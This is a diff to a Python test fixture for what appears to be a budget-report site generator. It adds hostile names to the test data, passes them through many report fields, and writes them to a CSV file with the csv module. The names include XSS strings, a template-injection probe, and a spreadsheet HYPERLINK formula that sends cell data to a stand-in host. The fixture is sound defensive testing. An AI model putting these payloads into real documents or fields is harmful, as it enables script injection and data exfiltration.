@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import os
 import shutil
 import threading
@@ -49,7 +50,14 @@ ROOT = Path(__file__).parents[2]
 LIBRARY = "riverside-library"
 HOSTILE = "hostile"
 HOSTILE_NAME = '<script>alert("1")</script>'
-HOSTILE_NAMES = ("{{ config.site_url }}", "[a](javascript:alert(1))", "</title><img src=x onerror=alert(1)>")
+HOSTILE_NAMES = (
+    "{{ config.site_url }}",
+    "[a](javascript:alert(1))",
+    "</title><img src=x onerror=alert(1)>",
+    '=HYPERLINK("http://h.example/?"&A1,"x")',
+    "{% include 'mkdocs.yml' %}${7*7}{# x #}",
+    "a&lt;b]]>--></script>*x*_y_`z`| - # \\",
+)
 
 
 def make_fact(statement: str, value: str, *, item: str = "", unit: str = "元", **more: Any) -> Fact:
@@ -129,10 +137,18 @@ def _make_budget() -> Parsed:
 
 def _make_hostile() -> Parsed:
     return Parsed(
-        facts=(make_fact("overall", "10000", item="current_year", direction="expenditure", quote=HOSTILE_NAME),),
-        texts=(Text("overall", "change_reason", HOSTILE_NAMES[2], "l1", item="current_year"),),
-        projects=(Project(1, HOSTILE_NAMES[1]),),
-        indicators=(Indicator(1, "", "", HOSTILE_NAMES[0], "l1"),),
+        facts=(
+            make_fact("overall", "10000", item="current_year", direction="expenditure", quote=HOSTILE_NAME),
+            *(
+                make_fact("general_public", "5000", functional_code=f"20799{at:02}", functional_name=name, quote=name)
+                for at, name in enumerate(HOSTILE_NAMES)
+            ),
+        ),
+        texts=tuple(Text("overall", "change_reason", name, "l1", item="current_year") for name in HOSTILE_NAMES),
+        projects=tuple(Project(at, name, supervisor=name) for at, name in enumerate(HOSTILE_NAMES, 1)),
+        indicators=tuple(
+            Indicator(at, "", "", name, "l1", target=name, deviation=name) for at, name in enumerate(HOSTILE_NAMES, 1)
+        ),
         figures=(),
     )
 
@@ -148,6 +164,9 @@ def write_holding(layout: Layout, unit_id: str, year: int, kind: Kind, parsed: P
         source = replace(source, recognized_pages=(4,), corrections=corrections)
     answers = (Acknowledgement("total-parts-1", "单位说明：<b>四舍五入</b>所致。", "2030-05-06", "answered"),)
     known = answers if unit_id == LIBRARY and kind == "final" else ()
+    if unit_id == HOSTILE:
+        source = replace(source, title=HOSTILE_NAMES[2], publisher=HOSTILE_NAMES[3])
+        known = (Acknowledgement("total-parts-1", "".join(HOSTILE_NAMES), "2030-05-06", "answered"),)
     report = Report(unit_id, year, kind, f"{name}{year}年度报告", name, (source,), acknowledgements=known)
     folder = layout.reports / report.folder
     folder.mkdir(parents=True)
@@ -175,7 +194,7 @@ def make_checkout(root: Path) -> Layout:
         units.write(f"{LIBRARY},临河县图书馆,Riverside Library,650000,,\n")
         units.write(f'{HOSTILE},"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}",Hostile,650000,,\n')
     with (layout.reference / "unit_names.csv").open("a", encoding="utf-8") as names:
-        names.writelines(f"{HOSTILE},{name},,,,,\n" for name in HOSTILE_NAMES)
+        csv.writer(names, lineterminator="\n").writerows([HOSTILE, name, *[""] * 5] for name in HOSTILE_NAMES)
         names.write(f"{LIBRARY},临河县少儿阅览中心,,,,,\n")
     write_holding(layout, LIBRARY, 2030, "final", _make_final(), "临河县图书馆")
     write_holding(layout, LIBRARY, 2031, "budget", _make_budget(), "临河县图书馆")
